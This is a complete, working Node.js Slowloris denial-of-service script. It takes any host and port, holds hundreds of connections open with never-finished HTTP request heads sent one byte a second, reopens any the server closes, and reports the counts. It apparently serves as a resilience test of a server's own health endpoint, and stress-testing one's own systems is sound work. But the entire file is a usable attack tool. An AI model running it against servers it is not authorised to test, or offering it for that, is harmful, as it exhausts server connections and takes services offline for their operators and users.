// Slowloris: N connections each send a request head one byte a second and
// never finish it; one the server closes is opened again, as an attacker
// would. Usage: node slowloris.mjs HOST PORT [N=300] [SECONDS=20]
// Prints how many were held open, and how many the server closed or refused.
import net from 'node:net';

const [host, port, n = '300', seconds = '20'] = process.argv.slice(2);
const until = Date.now() + Number(seconds) * 1000;
const head = 'GET /health/live HTTP/1.1\r\nHost: x\r\nX-Slow: ';
let open = 0;
let closedByServer = 0;
let answered = 0;
let mostOpen = 0;

function attack() {
  if (Date.now() >= until) return;
  const sock = net.connect(Number(port), host);
  let timer;
  let connected = false;
  sock.on('connect', () => {
    connected = true;
    open += 1;
    mostOpen = Math.max(mostOpen, open);
    sock.write(head);
    timer = setInterval(() => sock.write('a'), 1000);
  });
  sock.on('data', () => { answered += 1; });
  sock.on('error', () => {});
  sock.on('close', () => {
    clearInterval(timer);
    if (connected) open -= 1;
    if (Date.now() < until) {
      closedByServer += 1;
      setTimeout(attack, 100);
    }
  });
  setTimeout(() => sock.destroy(), Math.max(0, until - Date.now()));
}

for (let i = 0; i < Number(n); ++i) attack();
setTimeout(() => {
  console.log(`slowloris: ${n} connections for ${seconds}s; at most ${mostOpen} open at once, ` +
              `${closedByServer} closed by the server (and reopened), ${answered} answered`);
  process.exit(0);
}, Number(seconds) * 1000 + 500);
